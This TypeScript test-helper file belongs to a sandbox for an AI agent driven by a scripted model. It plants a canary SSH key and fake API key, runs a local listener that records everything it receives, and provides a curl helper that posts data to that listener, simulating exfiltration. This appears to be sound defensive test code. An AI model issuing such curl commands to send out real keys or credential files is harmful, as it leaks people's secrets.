import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { type AddressInfo, createServer } from "node:net";
import { dirname, join } from "node:path";
import type { TestContext } from "node:test";
import { fileURLToPath } from "node:url";
import type { ModelServer, Say } from "../wrap/model.ts";
import { type Ended, makePlace, type Place, ringfence, self } from "./program.ts";

const AGENT = readFileSync(fileURLToPath(new URL("../wrap/agent.mjs", import.meta.url)), "utf8");

/** No key of anybody's. */
export const KEY = "sk-canary-0a1b2c3d4e5f6071";

/** In a file of the home; and what an attack sends along, so that a request that arrives is known. */
export const CANARY = "canaryQ8f31c0d2";

/** In what an attack asks for, so that a request that arrives is known. */
export const MARK = "markQ77e0";

/** A call of the agent for its shell. */
export const bash =
  (command: string): Say =>
  () => ({ tool: "bash", input: { command } });

/** The last words of the agent. */
export const done: Say = () => ({ text: "Done." });

/** Writes a file into the person's home. */
export function plant(place: Place, path: string, text: string): void {
  mkdirSync(dirname(join(place.home, path)), { recursive: true });
  writeFileSync(join(place.home, path), text);
}

/** Runs the small agent in the box, on the program's own Node. */
export function wrap(
  place: Place,
  model: ModelServer,
  options: readonly string[] = [],
  words?: readonly string[],
): Promise<Ended> {
  const command = words ?? ["node", "agent.mjs", "a task"];
  return ringfence(place, ["wrap", ...options, "--", ...command], { env: keyOf(model) });
}

/** A place with the agent in it. */
export function make(t: TestContext, user = self()): Place {
  const place = makePlace(t, `cat >agent.mjs <<'X'\n${AGENT}\nX\necho old >a.txt`, { user });
  plant(place, ".ssh/id_ed25519", `${CANARY}\n`);
  return place;
}

/** Somebody's server, which keeps all that it is sent. */
export async function listen(t: TestContext) {
  let received = "";
  const server = createServer((socket) => {
    socket.on("error", () => {});
    socket.on("data", (piece) => {
      received += piece.toString("latin1");
      socket.end("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  t.after(() => server.close());
  const { port } = server.address() as AddressInfo;
  return {
    port,
    send: (what: string, how = "") => `curl -sS -m 5 ${how} -d ${what} http://127.0.0.1:${port}/${MARK}`,
    received: () => received,
    forget: () => {
      received = "";
    },
  };
}

/** The environment in which the person keeps the key and the address. */
export function keyOf({ port }: ModelServer): Record<string, string> {
  return { OPENAI_API_KEY: KEY, OPENAI_BASE_URL: `http://127.0.0.1:${port}/v1` };
}
